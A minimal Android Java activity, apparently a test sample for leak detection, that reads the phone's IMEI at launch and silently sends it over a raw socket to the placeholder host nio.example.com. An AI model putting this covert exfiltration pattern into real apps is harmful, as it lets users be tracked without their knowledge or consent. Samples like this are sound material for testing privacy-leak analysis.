package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final String imei = phone.getImei();
        new Thread(new Runnable() {
            @Override
            public void run() {
                send(imei);
            }
        }).start();
    }

    static void send(String text) {
        try {
            SocketChannel channel = SocketChannel.open(new InetSocketAddress("nio.example.com", 7000));
            ByteBuffer buffer = ByteBuffer.allocate(256);
            buffer.put(text.getBytes());
            buffer.flip();
            channel.write(buffer);
            channel.close();
        } catch (IOException error) {
            return;
        }
    }
}
